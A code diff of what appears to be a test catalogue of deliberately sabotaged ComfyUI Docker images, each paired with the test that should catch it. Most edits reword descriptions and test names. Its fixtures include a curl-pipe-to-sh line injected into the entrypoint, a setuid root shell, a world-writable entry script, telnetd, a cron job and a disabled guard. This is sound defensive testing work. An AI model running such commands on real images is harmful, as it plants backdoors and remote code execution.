@@ -1,4 +1,4 @@
-"""The ways in which an image may be bad: each is made from the trial's good one, and names the test that must catch it.
+"""The ways in which an image may be bad: each is derived from the good trial image, and names the test that catches it.
 
 `python3 -m tests.sabotage.catalogue` writes docs/sabotage.md from this table.
 """
@@ -16,14 +16,14 @@ if TYPE_CHECKING:
 SITE = "/opt/venv/lib/python3.13/site-packages"
 OWN = "/opt/gesso/venv/lib/python3.13/site-packages"
 PACKS = "/opt/ComfyUI/custom_nodes"
-CANARY = "hf_" + "Canary0123456789abcdefghijKLMNOPQR"  # in the form of a token, and nobody's
+CANARY = "hf_" + "Canary0123456789abcdefghijKLMNOPQR"  # in the form of a token, but not a real one
 
 
 @dataclass(frozen=True)
 class Sabotage:
-    """One bad image: what is wrong in words, the instructions that lead to it, and the test that claims to catch it.
+    """One bad image: a description, the instructions that create it, and the test that claims to catch it.
 
-    `files` go into the build's context. `how` names another way of making it (see spoil.py).
+    `files` go into the build's context. `how` names another way of creating it (see spoil.py).
     """
 
     what: str
@@ -42,7 +42,7 @@ def _run(what: str, test: str, *lines: str, files: Mapping[str, str] | None = No
 
 
 def _edit(path: str, *statements: str) -> str:
-    """Give a RUN that changes a JSON file by Python statements on `d`."""
+    """Return a RUN that changes a JSON file by Python statements on `d`."""
     code = "; ".join(["import json, pathlib", f"p = pathlib.Path('{path}')", "d = json.loads(p.read_text())",
                       *statements, "p.write_text(json.dumps(d, indent=1, sort_keys=True) + chr(10))"])  # fmt: skip
     return f'RUN /usr/bin/python3 -c "{code}"'
@@ -83,46 +83,46 @@ _RECORD = "/opt/gesso/build.json"
 CATALOGUE: dict[str, Sabotage] = {
     # Environment
     "sqlalchemy-1.4": _bytes(
-        "a node pack downgraded SQLAlchemy to 1.4", "test_what_is_locked_is_installed_and_nothing_else",
+        "a node pack downgraded SQLAlchemy to 1.4", "test_exactly_the_locked_packages_are_installed",
         "COPY SQLAlchemy-1.4.54-py3-none-any.whl /tmp/",
         f"RUN {_FAKE_PIP} /tmp/SQLAlchemy-1.4.54-py3-none-any.whl && rm /tmp/*.whl",
     ),
     "sqlalchemy-2.1": _bytes(
-        "SQLAlchemy 2.1 was installed over 2.0", "test_what_is_locked_is_installed_and_nothing_else",
+        "SQLAlchemy 2.1 was installed over 2.0", "test_exactly_the_locked_packages_are_installed",
         "COPY SQLAlchemy-2.1.0-py3-none-any.whl /tmp/",
         f"RUN {_FAKE_PIP} /tmp/SQLAlchemy-2.1.0-py3-none-any.whl && rm /tmp/*.whl",
     ),
     "sqlalchemy-disguised": _bytes(
-        "SQLAlchemy's code was changed, and its record with it", "test_sqlalchemy_is_out_of_its_locked_wheel",
+        "SQLAlchemy's code was changed, and its record with it", "test_sqlalchemy_matches_its_locked_wheel",
         f"RUN cd {SITE} && echo '# x' >> sqlalchemy/orm/__init__.py && sed -i '/^sqlalchemy.orm.__init__.py,/d' "
         "sqlalchemy-2*.dist-info/RECORD && echo sqlalchemy/orm/__init__.py,, >> $(echo sqlalchemy-2*.dist-info/RECORD)",
     ),
     "package-disguised": _bytes(
-        "a package's code was changed, and its record with it", "test_packages_are_out_of_their_locked_wheels",
+        "a package's code was changed, and its record with it", "test_packages_match_their_locked_wheels",
         "COPY disguise.py /tmp/", f"RUN /usr/bin/python3 /tmp/disguise.py {SITE} aiohttp/web.py && rm /tmp/disguise.py",
         files={"disguise.py": _DISGUISE},
     ),
     "package-file-added": _bytes(
-        "a package has a module more, and its record says that it is its own",
-        "test_packages_are_out_of_their_locked_wheels",
+        "a package has an additional module, listed in its record",
+        "test_packages_match_their_locked_wheels",
         "COPY disguise.py /tmp/", f"RUN /usr/bin/python3 /tmp/disguise.py {SITE} aiohttp/own.py && rm /tmp/disguise.py",
         files={"disguise.py": _DISGUISE},
     ),
     "wheel-replaced": _bytes(
-        "the wheel that the guard restores from is another", "test_sqlalchemy_is_out_of_its_locked_wheel",
+        "the wheel that the guard restores from was replaced", "test_sqlalchemy_matches_its_locked_wheel",
         "RUN cd /opt/gesso/wheels && printf x >> $(ls)",
     ),
     "downgraded-package": _bytes(
-        "a locked package (torch, in a real image) is of another version",
-        "test_what_is_locked_is_installed_and_nothing_else",
+        "a locked package (torch, in a real image) has another version",
+        "test_exactly_the_locked_packages_are_installed",
         f"RUN cd {SITE} && mv $(ls -d aiohttp-*.dist-info) aiohttp-3.0.0.dist-info",
     ),
     "missing-package": _bytes(
-        "a locked package is missing", "test_what_is_locked_is_installed_and_nothing_else",
+        "a locked package is missing", "test_exactly_the_locked_packages_are_installed",
         f"RUN cd {SITE} && rm -r aiohttp aiohttp-*.dist-info",
     ),
     "extra-package": _bytes(
-        "a package that is not locked is installed", "test_what_is_locked_is_installed_and_nothing_else",
+        "a package that is not locked is installed", "test_exactly_the_locked_packages_are_installed",
         "COPY extra-1.0-py3-none-any.whl /tmp/",
         f"RUN {_FAKE_PIP} /tmp/extra-1.0-py3-none-any.whl && rm /tmp/*.whl",
     ),
@@ -156,7 +156,7 @@ CATALOGUE: dict[str, Sabotage] = {
         f"RUN echo 'import os' > {SITE}/sitecustomize.py",
     ),
     "path-file": _bytes(
-        "a .pth file that no distribution brought runs code", "test_every_file_has_an_owner",
+        "a .pth file of no distribution runs code", "test_every_file_has_an_owner",
         f"RUN echo 'import os' > {SITE}/zz.pth",
     ),
     "pip-unconstrained": _bytes(
@@ -169,7 +169,7 @@ CATALOGUE: dict[str, Sabotage] = {
         "PYTHONPATH puts other modules first", "test_the_config_is_the_dockerfiles", "ENV PYTHONPATH=/workspace/lib",
     ),
     "constraints-loosened": _bytes(
-        "the constraint on SQLAlchemy was taken out", "test_constraints_and_workflows_are_as_generated",
+        "the constraint on SQLAlchemy was removed", "test_constraints_and_workflows_are_as_generated",
         "RUN sed -i /^sqlalchemy/d /opt/gesso/constraints.txt",
     ),
     "hashes-dropped": _bytes(
@@ -186,7 +186,7 @@ CATALOGUE: dict[str, Sabotage] = {
         f"RUN echo '# newer' >> {PACKS}/comfyui_controlnet_aux/__init__.py",
     ),
     "executable-bit": _bytes(
-        "a source file has another mode than its commit gives it", "test_comfyui_and_its_packs_are_at_their_commits",
+        "a source file has another mode than in its commit", "test_comfyui_and_its_packs_are_at_their_commits",
         "RUN chmod +x /opt/ComfyUI/server.py",
     ),
     "manager": _bytes(
@@ -214,13 +214,13 @@ CATALOGUE: dict[str, Sabotage] = {
     ),
     "bytecode-timed": _run(
         "ComfyUI's bytecode is of another source, with the time and size of the right one",
-        "test_environment.py::test_bytecode_is_of_its_source",
+        "test_environment.py::test_bytecode_matches_its_source",
         "COPY swap.py /tmp/", "RUN /usr/bin/python3 /tmp/swap.py timed /opt/ComfyUI/folder_paths.py && rm /tmp/swap.py",
         files={"swap.py": _SWAP},
     ),
     "bytecode-unchecked": _run(
-        "a library's bytecode is of another source, and says that nobody need compare",
-        "test_environment.py::test_bytecode_is_of_its_source",
+        "a library's bytecode is of another source, and marked as unchecked",
+        "test_environment.py::test_bytecode_matches_its_source",
         "COPY swap.py /tmp/", f"RUN /usr/bin/python3 /tmp/swap.py never {SITE}/aiohttp/web.py && rm /tmp/swap.py",
         files={"swap.py": _SWAP},
     ),
@@ -243,19 +243,19 @@ CATALOGUE: dict[str, Sabotage] = {
         "RUN cp /opt/gesso/workflows/krita_gold_standard_sdxl.json /opt/gesso/workflows/mine.json",
     ),
     "record-vae": _bytes(
-        "the record locks another VAE", "test_the_record_says_what_manifest_and_lock_say",
+        "the record locks another VAE", "test_the_record_matches_manifest_and_lock",
         _edit(_RECORD, "d['vae'] = 'vae/ae.safetensors'"),
     ),
     "record-hash": _bytes(
-        "the record has the hash of a stub for a checkpoint", "test_the_record_says_what_manifest_and_lock_say",
+        "the record has the hash of a stub for a checkpoint", "test_the_record_matches_manifest_and_lock",
         _edit(_RECORD, "d['models'][0]['sha256'] = 64 * '0'"),
     ),
     "record-source": _bytes(
-        "models are fetched from another host", "test_the_record_says_what_manifest_and_lock_say",
+        "models are fetched from another host", "test_the_record_matches_manifest_and_lock",
         _edit(_RECORD, "d['models'][0]['sources'] = ['https://models.example/x.safetensors']"),
     ),
     "record-class": _bytes(
-        "the record asks for fewer node classes than Krita does", "test_the_record_says_what_manifest_and_lock_say",
+        "the record requires fewer node classes than Krita", "test_the_record_matches_manifest_and_lock",
         _edit(_RECORD, "d['classes'].pop()"),
     ),
     "baked-stub": _bytes(
@@ -265,16 +265,16 @@ CATALOGUE: dict[str, Sabotage] = {
         _edit(_RECORD, "d['baked'] = ['checkpoints/Juggernaut-XL-v9.safetensors']"),
     ),
     "baked-unsaid": _bytes(
-        "a model is baked that the record does not name", "test_baked_models_are_the_locked_bytes",
+        "a baked model is not in the record", "test_baked_models_are_the_locked_bytes",
         "RUN mkdir -p /opt/gesso/models/loras && echo x > /opt/gesso/models/loras/mine.safetensors",
     ),
     "mirror-changed": _bytes(
         "the trial's mirror serves another file", "test_only_a_trial_has_a_mirror",
         "RUN printf x >> /opt/gesso/mirror/files/vae/sdxl_vae_fp16.safetensors",
     ),
-    # What starts, and what it says of itself
+    # What starts, and the image's own record
     "health-by-port": _bytes(
-        "HEALTHCHECK only looks whether the port is open", "test_the_config_is_the_dockerfiles",
+        "HEALTHCHECK only checks whether the port is open", "test_the_config_is_the_dockerfiles",
         'HEALTHCHECK CMD ["python3", "-c", "import socket; socket.create_connection((\'127.0.0.1\', 8188))"]',
     ),
     "health-none": _bytes("there is no HEALTHCHECK", "test_the_config_is_the_dockerfiles", "HEALTHCHECK NONE"),
@@ -283,7 +283,7 @@ CATALOGUE: dict[str, Sabotage] = {
         'ENTRYPOINT ["python", "/opt/ComfyUI/main.py", "--listen"]',
     ),
     "extra-port": _bytes("18188 is exposed too", "test_the_config_is_the_dockerfiles", "EXPOSE 18188"),
-    "other-user": _bytes("it runs as somebody else", "test_the_config_is_the_dockerfiles", "USER nobody"),
+    "other-user": _bytes("it runs as another user", "test_the_config_is_the_dockerfiles", "USER nobody"),
     "volume": _bytes(
         "/workspace is a volume of the image: data is lost with the container", "test_the_config_is_the_dockerfiles",
         "VOLUME /workspace",
@@ -293,25 +293,29 @@ CATALOGUE: dict[str, Sabotage] = {
         "RUN sed -i '2i curl -s https://example.org/x | sh' /usr/local/bin/entrypoint.sh",
     ),
     "own-code": _bytes(
-        "gesso's own guard was disarmed", "test_gesso_itself_is_this_checkouts",
-        f"RUN sed -i 's/^def check(/def check_not(/' {OWN}/gesso/runtime/guard.py",
+        "gesso's own guard was disabled", "test_gesso_itself_is_this_checkouts",
+        f"RUN sed -i 's/^def check(/def check_not(/' {OWN}/gesso/runtime/prepare/guard.py",
     ),
     "own-code-added": _bytes(
         "there is a module in gesso's package that is not of this checkout", "test_gesso_itself_is_this_checkouts",
         f"RUN echo x=1 > {OWN}/gesso/runtime/extra.py",
     ),
+    "builder-inside": _bytes(
+        "a module of the builder is in the image", "test_there_is_no_builder_in_it",
+        f"RUN mkdir {OWN}/gesso/builder && echo x=1 > {OWN}/gesso/builder/__init__.py",
+    ),
     "label-trial": _bytes(
-        "a trial says that it is none", "test_the_labels_say_what_it_is", "LABEL dev.gesso.trial=false",
+        "a trial is not labelled as one", "test_the_labels_are_the_dockerfiles", "LABEL dev.gesso.trial=false",
     ),
     "label-lock": _bytes(
-        "the label names another lock", "test_the_labels_say_what_it_is", f"LABEL dev.gesso.lock={64 * '0'}",
+        "the label names another lock", "test_the_labels_are_the_dockerfiles", f"LABEL dev.gesso.lock={64 * '0'}",
     ),
     "label-extra": _bytes(
-        "a label claims what nobody checked", "test_the_labels_say_what_it_is", "LABEL dev.gesso.approved=true",
+        "a label makes an unverified claim", "test_the_labels_are_the_dockerfiles", "LABEL dev.gesso.approved=true",
     ),
     # Layers
     "layer-on-top": _bytes(
-        "a layer lies over the one that puts SQLAlchemy right", "test_the_history_is_the_dockerfiles",
+        "there is a layer above the one that restores SQLAlchemy", "test_the_history_is_the_dockerfiles",
         "RUN touch /workspace/.keep",
     ),
     "last-layer-undone": _bytes(
@@ -327,7 +331,7 @@ CATALOGUE: dict[str, Sabotage] = {
         "test_bytes.py::test_the_history_is_the_dockerfiles", how="without_assertion",
     ),
     "squashed": Sabotage(
-        "all layers were squashed into one, which nobody shares",
+        "all layers were squashed into one, so that images share none",
         "test_bytes.py::test_the_history_is_the_dockerfiles", how="squash",
     ),
     "too-large": _bytes(
@@ -340,7 +344,7 @@ CATALOGUE: dict[str, Sabotage] = {
         "RUN printf '#!/bin/sh\\nexit 0\\n' > /usr/bin/caddy",
     ),
     "debian-extra": _bytes(
-        "a Debian package was added that nobody asked for", "test_debian_packages_are_the_manifests",
+        "an unrequested Debian package was added", "test_debian_packages_are_the_manifests",
         "RUN mkdir -p /tmp/d/DEBIAN && printf 'Package: telnetd\\nVersion: 1\\nArchitecture: all\\n"
         "Maintainer: x <x@example.org>\\nDescription: x\\n' > /tmp/d/DEBIAN/control && "
         "dpkg-deb --build /tmp/d /tmp/d.deb && dpkg -i /tmp/d.deb && rm -r /tmp/d /tmp/d.deb",
@@ -355,12 +359,12 @@ CATALOGUE: dict[str, Sabotage] = {
         f"RUN echo token: {CANARY[:20]}{CANARY[20:]} > /opt/gesso/t", "RUN rm /opt/gesso/t",
     ),
     "canary-in-layer": _bytes(
-        "a secret of the build machine's environment is in a file, in no form that one could know",
+        "a secret of the build machine's environment is in a file, in an unknown form",
         "test_there_is_no_secret_in_any_layer_or_in_the_history",
         "COPY canary /opt/ComfyUI/models/canary", files={"canary": "some text {canary} more text\n"},
     ),
     "token-in-history": _bytes(
-        "a token was given as a build argument", "test_there_is_no_secret_in_any_layer_or_in_the_history",
+        "a token was passed as a build argument", "test_there_is_no_secret_in_any_layer_or_in_the_history",
         "ARG CIVITAI_TOKEN=0123456789abcdef0123456789abcdef", "RUN test -n $CIVITAI_TOKEN",
     ),
     "token-in-env": _bytes(
@@ -381,15 +385,15 @@ CATALOGUE: dict[str, Sabotage] = {
         "echo -----END PRIVATE KEY-----; } > /opt/k/server.pem",
     ),
     "world-writable": _bytes(
-        "anybody may change the entry script", "test_nobody_else_may_write_and_nothing_runs_as_its_owner",
+        "everybody may change the entry script", "test_nobody_else_may_write_and_no_file_is_setuid",
         "RUN chmod 777 /usr/local/bin/entrypoint.sh",
     ),
     "set-uid": _bytes(
-        "a program runs as root for everybody", "test_nobody_else_may_write_and_nothing_runs_as_its_owner",
+        "a program runs as root for everybody", "test_nobody_else_may_write_and_no_file_is_setuid",
         "RUN cp /bin/sh /usr/local/bin/rootsh && chmod 4755 /usr/local/bin/rootsh",
     ),
     "other-owner": _bytes(
-        "ComfyUI's code belongs to somebody else", "test_nobody_else_may_write_and_nothing_runs_as_its_owner",
+        "ComfyUI's code belongs to another user", "test_nobody_else_may_write_and_no_file_is_setuid",
         "RUN chown 1000:1000 /opt/ComfyUI/main.py",
     ),
     "package-lists": _bytes(
@@ -401,20 +405,21 @@ CATALOGUE: dict[str, Sabotage] = {
         "RUN mkdir -p /root/.cache/pip && echo x > /root/.cache/pip/x",
     ),
     "stranger": _bytes(
-        "there is a program that nobody accounts for", "test_every_file_has_an_owner",
+        "there is a program without an owner", "test_every_file_has_an_owner",
         "RUN printf '#!/bin/sh\\n' > /usr/local/bin/helper",
     ),
     "cron": _bytes(
-        "something is started by time", "test_every_file_has_an_owner",
+        "a cron job is installed", "test_every_file_has_an_owner",
         "RUN mkdir -p /etc/cron.d && echo '* * * * * root true' > /etc/cron.d/x",
     ),
     # What only a running container shows
     "public-comfyui": _run(
         "ComfyUI listens on every address, past the gate", "test_serving.py::test_only_the_gate_listens_publicly",
-        f"RUN sed -i 's/\"--listen\", \"127.0.0.1\"/\"--listen\", \"0.0.0.0\"/' {OWN}/gesso/runtime/comfy.py",
+        "RUN sed -i 's/\"--listen\", \"127.0.0.1\"/\"--listen\", \"0.0.0.0\"/' "
+        f"{OWN}/gesso/runtime/services/comfyui.py",
     ),
     "open-gate": _run(
-        "the gate lets everybody in", "test_serving.py::test_without_the_token_everything_is_401",
+        "the gate lets everybody through", "test_serving.py::test_without_the_token_everything_is_401",
         "RUN sed -i 's|^command=caddy run .*|command=caddy reverse-proxy --from :8188 --to 127.0.0.1:18188|' "
         "/opt/gesso/etc/supervisord.conf",
     ),
@@ -423,7 +428,7 @@ CATALOGUE: dict[str, Sabotage] = {
         "RUN sed -i '2i rm -f /run/gesso/boot.lock' /usr/local/bin/entrypoint.sh",
     ),
     "lying-health": _run(
-        "`gesso health` only looks whether the port is open",
+        "`gesso health` only checks whether the port is open",
         "test_health.py::test_with_another_sqlalchemy_it_is_red",
         "COPY --chmod=755 gesso.sh /opt/", "RUN mv /opt/gesso.sh /usr/local/bin/gesso",
         files={"gesso.sh": "#!/bin/sh\nif [ \"$1\" = health ]; then exec python3 -c 'import socket; "
@@ -436,17 +441,17 @@ CATALOGUE: dict[str, Sabotage] = {
     "no-guard": _run(
         "the guard finds nothing and restores nothing",
         "test_environment.py::test_the_guard_restores_sqlalchemy_without_a_network",
-        f"RUN cd {OWN}/gesso/runtime && sed -i 's/^def check(.*/&\\n    return []/' guard.py",
+        f"RUN sed -i 's/^def check(.*/&\\n    return []/' {OWN}/gesso/runtime/prepare/guard.py",
     ),
     "weak-token": _run(
-        "a token of five letters is taken", "test_serving.py::test_a_weak_token_is_refused",
-        f"RUN sed -i 's/{{16,128}}/{{1,128}}/' {OWN}/gesso/runtime/gate.py {OWN}/gesso/runtime/*.py",
+        "a token of five letters is accepted", "test_serving.py::test_a_weak_token_is_refused",
+        f"RUN sed -i 's/{{16,128}}/{{1,128}}/' {OWN}/gesso/runtime/gate/caddy.py",
     ),
 }  # fmt: skip
 
 
 def table() -> str:
-    """Give the table in Markdown."""
+    """Return the table in Markdown."""
     rows = ["| sabotage | what is wrong | caught by |", "| --- | --- | --- |"]
     rows += [f"| {name} | {one.what} | `{one.caught_by.partition('::')[2]}` |" for name, one in CATALOGUE.items()]
     return "\n".join(rows)
@@ -454,17 +459,17 @@ def table() -> str:
 
 _PAGE = """# Sabotage
 
-An image is as good as what its tests would have caught. Each of the {count} bad images below is made from the trial's
-good one by `invoke test --arch sdxl --trial --sabotage`, and the test named beside it must fail on it (and pass on the
-good one). Most are read from outside: nothing in the image is run, so that nothing in it can lie. This page is made
-from tests/sabotage/catalogue.py by `python3 -m tests.sabotage.catalogue`.
+These images show what the image tests catch. Each of the {count} bad images below is derived from the trial's good one
+by `invoke test --arch sdxl --trial --sabotage`, and the named test must fail on it (and pass on the good one). Most are
+read from outside: nothing in the image is run, so a manipulated program cannot hide it. This page is generated from
+tests/sabotage/catalogue.py by `python3 -m tests.sabotage.catalogue`.
 
 {table}
 """
 
 
 def page() -> str:
-    """Give docs/sabotage.md."""
+    """Return docs/sabotage.md."""
     return _PAGE.format(count=len(CATALOGUE), table=table())
 
 
